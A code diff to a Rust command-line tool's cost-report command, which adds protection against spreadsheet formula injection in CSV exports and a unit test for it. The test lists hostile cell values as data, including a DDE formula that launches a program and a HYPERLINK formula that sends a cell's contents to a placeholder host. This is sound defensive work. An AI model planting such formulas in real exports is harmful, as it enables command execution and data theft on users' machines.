@@ -13,9 +13,10 @@ use crate::cost::{By, Record, Report, Sum, report, runs};
 use crate::error::{CliError, Result};
 use crate::kinds::Kind;
 use crate::output::{Notation, Ui};
+use crate::shown::Shown;
 use crate::table::Table;
 use crate::{human, tasks};
-use axon_api::money;
+use axon_api::money::Money;
 
 const DETAILS: &str = "\
 A run is a task whose agent has started. Runs whose task is deleted are counted too: a record of
@@ -107,7 +108,7 @@ pub async fn execute(ui: &Ui, globals: &Globals, args: Args) -> Result<()> {
     let report = report(&runs, &args.by, args.all_namespaces, since);
     match args.output {
         CostFormat::Json => ui.structured(&as_json(&report, &args.by), Notation::Json),
-        CostFormat::Csv => ui.raw(as_csv(&report, &args.by).as_bytes()),
+        CostFormat::Csv => ui.block(&Shown::block(&as_csv(&report, &args.by))),
         CostFormat::Table | CostFormat::Wide => {
             if report.total.runs == 0 {
                 let place = namespace
@@ -118,7 +119,7 @@ pub async fn execute(ui: &Ui, globals: &Globals, args: Args) -> Result<()> {
             }
             let width = ui.width().filter(|_| args.output == CostFormat::Table);
             let text = as_table(&report, &args.by, args.output == CostFormat::Wide, width);
-            ui.raw(text.as_bytes())?;
+            ui.block(&Shown::block(&text))?;
             remarks(&report.total).iter().for_each(|remark| ui.say(remark));
             Ok(())
         }
@@ -140,7 +141,7 @@ fn remarks(total: &Sum) -> Vec<String> {
     if let Some(estimate) = total.estimate() {
         remarks.push(format!(
             "~{} of {} is estimated by the operator's price table; COST and AVERAGE are without it.",
-            money::short(estimate),
+            estimate.short(),
             human::count(total.estimated_runs, "run")
         ));
     }
@@ -195,7 +196,7 @@ fn as_table(report: &Report, by: &By, wide: bool, width: Option<usize>) -> Strin
     let mut table = Table::new(header);
     let total = ("TOTAL".to_owned(), report.total.clone());
     for (key, sum) in report.groups.iter().chain(std::iter::once(&total)) {
-        let money = |nanos: Option<i64>| nanos.map(money::short).unwrap_or_default();
+        let money = |amount: Option<Money>| amount.map(Money::short).unwrap_or_default();
         let tokens = |tokens: crate::cost::Tokens| match tokens.runs {
             0 => String::new(),
             _ => human::quantity(tokens.count),
@@ -209,7 +210,7 @@ fn as_table(report: &Report, by: &By, wide: bool, width: Option<usize>) -> Strin
         if estimated {
             cells.push(
                 sum.estimate()
-                    .map(|sum| format!("~{}", money::short(sum)))
+                    .map(|sum| format!("~{}", sum.short()))
                     .unwrap_or_default(),
             );
         }
@@ -243,7 +244,7 @@ fn as_table(report: &Report, by: &By, wide: bool, width: Option<usize>) -> Strin
 
 /// Name and value of each figure of a sum.
 fn figures(sum: &Sum) -> Vec<(&'static str, Value)> {
-    let money = |nanos: Option<i64>| nanos.map_or(Value::Null, |n| money::exact(n).into());
+    let money = |amount: Option<Money>| amount.map_or(Value::Null, |n| n.to_string().into());
     let tokens = |tokens: crate::cost::Tokens| match tokens.runs {
         0 => Value::Null,
         _ => tokens.count.into(),
@@ -286,18 +287,11 @@ fn as_json(report: &Report, by: &By) -> Value {
 
 /// What is unknown is empty. There is no line for the total, which spreadsheets would add up again.
 fn as_csv(report: &Report, by: &By) -> String {
-    let quoted = |text: &str| {
-        if text.contains(['"', ',', '\n', '\r']) {
-            format!("\"{}\"", text.replace('"', "\"\""))
-        } else {
-            text.to_owned()
-        }
-    };
     let names = figures(&Sum::default())
         .into_iter()
         .map(|(name, _)| name.to_owned());
     let mut lines = vec![
-        std::iter::once(quoted(&by.title().to_ascii_lowercase()))
+        std::iter::once(cell(&by.title().to_ascii_lowercase()))
             .chain(names)
             .collect::<Vec<_>>()
             .join(","),
@@ -305,11 +299,11 @@ fn as_csv(report: &Report, by: &By) -> String {
     for (key, sum) in &report.groups {
         let values = figures(sum).into_iter().map(|(_, value)| match value {
             Value::Null => String::new(),
-            Value::String(text) => quoted(&text),
+            Value::String(text) => text,
             other => other.to_string(),
         });
         lines.push(
-            std::iter::once(quoted(key))
+            std::iter::once(cell(key))
                 .chain(values)
                 .collect::<Vec<_>>()
                 .join(","),
@@ -318,9 +312,49 @@ fn as_csv(report: &Report, by: &By) -> String {
     lines.join("\n") + "\n"
 }
 
+/// Returns a text as a cell. A spreadsheet would run a text that begins as a formula does; behind an apostrophe it is text.
+fn cell(text: &str) -> String {
+    let starts = text.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    let text = human::one_line(text);
+    let text = if starts || text.starts_with(['=', '+', '-', '@']) {
+        format!("'{text}")
+    } else {
+        text
+    };
+    if text.contains(['"', ',']) {
+        format!("\"{}\"", text.replace('"', "\"\""))
+    } else {
+        text
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn no_cell_is_a_formula() {
+        for (text, expected) in [
+            ("opus", "opus"),
+            ("a,b", "\"a,b\""),
+            ("say \"x\"", "\"say \"\"x\"\"\""),
+            ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+            (
+                "=HYPERLINK(\"https://e/?\"&A2,\"t\")",
+                "\"'=HYPERLINK(\"\"https://e/?\"\"&A2,\"\"t\"\")\"",
+            ),
+            ("+1", "'+1"),
+            ("-1", "'-1"),
+            ("\t=1", "'=1"),
+            ("\r=1", "'=1"),
+            (" =1", "'=1"),
+            ("\n=1", "'=1"),
+            ("a\nb", "a\\nb"),
+            ("\u{202e}x\u{1b}", "\u{fffd}x\u{fffd}"),
+        ] {
+            assert_eq!(cell(text), expected, "{text:?}");
+        }
+    }
 
     #[test]
     fn since_knows_days() {
